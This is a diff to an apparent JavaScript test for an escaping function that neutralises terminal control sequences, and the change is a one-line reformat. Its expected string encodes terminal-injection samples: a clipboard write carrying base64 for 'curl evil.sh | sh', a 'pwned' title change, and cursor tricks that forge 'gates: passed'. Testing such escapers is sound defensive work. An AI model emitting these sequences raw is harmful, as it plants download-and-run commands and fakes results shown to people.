@@ -10,9 +10,7 @@ describe('escapeControl', () => {
   it('shows C0, DEL and C1 controls as text: clipboard, title, cursor and bare CR cannot act', () => {
     const escaped = escapeControl(`${OSC52}${TITLE}${FORGE}\u009b2J\u007f\u0000`);
     expect(escaped).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
-    expect(escaped).toBe(
-      '\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b]0;pwned\\x07tests failed\\x0d\\x1b[2K\\x1b[1Agates: passed\\x9b2J\\x7f\\x00',
-    );
+    expect(escaped).toBe('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b]0;pwned\\x07tests failed\\x0d\\x1b[2K\\x1b[1Agates: passed\\x9b2J\\x7f\\x00');
   });
 
   it('keeps newlines, tabs, CRLF line ends and printable Unicode', () => {
